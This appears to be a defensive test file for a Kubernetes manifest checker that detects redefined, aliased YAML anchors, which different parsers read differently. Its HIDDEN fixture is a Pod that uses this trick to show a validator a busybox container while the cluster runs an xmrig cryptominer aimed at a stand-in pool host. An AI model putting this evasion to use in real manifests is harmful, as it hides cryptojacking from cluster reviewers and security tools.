import assert from 'node:assert/strict';
import { cpuUsage } from 'node:process';
import { test } from 'node:test';
import fc from 'fast-check';
import { mayReadDifferently } from '../../src/sources/exact-route.js';
import { leanReadCount } from '../../src/sources/go-yaml-lean.js';
import { aliasesRedefinedAnchor } from '../../src/sources/redefined-anchors.js';
import { DEFAULT_PARSE_LIMITS, parseYamlStream } from '../../src/sources/yaml-documents.js';
import { compareWithKubectl, kubectlDecodeAll, requiresKubectl } from '../../src/testing/kubectl-oracle.js';

/**
 * The fast path's check for an anchor name defined twice and aliased (anchors17): js-yaml and
 * go-yaml name different nodes after a collection anchored `&a` that holds another `&a`, so such a
 * text goes to the exact reader. A Pod whose containers come from such an alias read one container
 * for kfguard and another for the cluster.
 */

/** The same question as regular expressions (lookbehind for a node start), on small texts. */
function reference(text: string): boolean {
  const names = (sigil: string): string[] => [...text.matchAll(new RegExp(`(?<=^|[ \\t\\r\\n:[{,-])\\${sigil}([^ \\t\\r\\n,[\\]{}]+)`, 'g'))].map((m) => m[1]!);
  const defined = names('&');
  const repeated = new Set(defined.filter((name, i) => defined.indexOf(name) !== i));
  return names('*').some((name) => repeated.has(name));
}

test('answers as the regular expressions do', () => {
  const text = fc.array(fc.constantFrom('&', '*', 'a', 'b', ' ', '\n', ':', '[', ']', ',', '-', 'x', '&a', '*a', '&b '), { maxLength: 30 }).map((parts) => parts.join(''));
  fc.assert(fc.property(text, (t) => aliasesRedefinedAnchor(t) === reference(t)), { numRuns: 5000 });
  for (const t of ['x: &a\n  y: &a 1\nw: *a\n', '&a [&a]\n*a', 'a: &d 1\nb: &d 2\n', 'a: &d 1\nb: *d\n', 'u: http://h/?a=1&a=2 *a\nv: &a 1 *a\n']) {
    assert.equal(aliasesRedefinedAnchor(t), reference(t), JSON.stringify(t));
  }
  // Defined twice without an alias, or aliased but defined once: js-yaml names what go-yaml names.
  assert.equal(aliasesRedefinedAnchor('a: &d 1\nb: &d 2\nc: x\n'), false);
  assert.equal(aliasesRedefinedAnchor('a: &d 1\nb: *d\nc: &e 2\n'), false);
  assert.equal(aliasesRedefinedAnchor('a: &d 1\nb: &d 2\nc: *d\n'), true);
});

test('grows linearly on anchors, aliases and long names', () => {
  const cpuOf = (units: number, unit: string): number => {
    const text = unit.repeat(units);
    let best = Infinity;
    for (let r = 0; r < 3; r++) {
      const start = cpuUsage();
      aliasesRedefinedAnchor(text);
      const used = cpuUsage(start);
      best = Math.min(best, used.user + used.system);
    }
    return Math.max(best, 1);
  };
  for (const unit of ['&a ', '&a', ' &a*a', '*a ', 'a&', ' &', '&x\n*y\n']) {
    cpuOf(1000, unit);
    const small = cpuOf(20_000, unit);
    const large = cpuOf(320_000, unit);
    // 16 times the input: linear work is about 16 times the time.
    assert.ok(large / small < 64, `${JSON.stringify(unit)}: ${small} µs for 20,000 units, ${large} µs for 320,000`);
  }
});

/** A Pod whose container is an alias to a name defined inside the collection anchored with it. */
const HIDDEN = `apiVersion: v1
kind: Pod
metadata:
  name: p
  namespace: default
x-templates: &c
  inner: &c
    name: main
    image: xmrig/xmrig:latest
    args: ["-o", "stratum+tcp://pool.example.com:4444"]
  name: main
  image: busybox:1.36
spec:
  containers:
  - *c
`;

test('a Pod whose container is an alias to a redefined name is read as Kubernetes reads it, and the difference is noted', () => {
  assert.equal(mayReadDifferently(HIDDEN), true);
  const before = leanReadCount();
  const { documents, errors } = parseYamlStream(HIDDEN, DEFAULT_PARSE_LIMITS);
  assert.deepEqual(errors, []);
  assert.equal(leanReadCount() - before, 1, 'read on the lean path');
  const pod = documents[0]!.value as { spec: { containers: { image: string }[] } };
  assert.equal(pod.spec.containers[0]!.image, 'xmrig/xmrig:latest');
  // js-yaml reads the outer mapping there: the exact reader says the two readings differ.
  assert.ok((documents[0]!.readingNotes ?? []).some((note) => note.includes('containers')), JSON.stringify(documents[0]!.readingNotes));
  // Defined twice but never aliased: still the fast path.
  assert.equal(mayReadDifferently('apiVersion: v1\nkind: ConfigMap\ndata:\n  a: &d x\n  b: &d z\n'), false);
});

test('the hidden container reads as kubectl reads it', requiresKubectl(), () => {
  const oracle = kubectlDecodeAll([HIDDEN]);
  assert.deepEqual(compareWithKubectl(HIDDEN, oracle[0]!), []);
  assert.equal((oracle[0]!.objects[0] as { spec: { containers: { image: string }[] } }).spec.containers[0]!.image, 'xmrig/xmrig:latest');
});
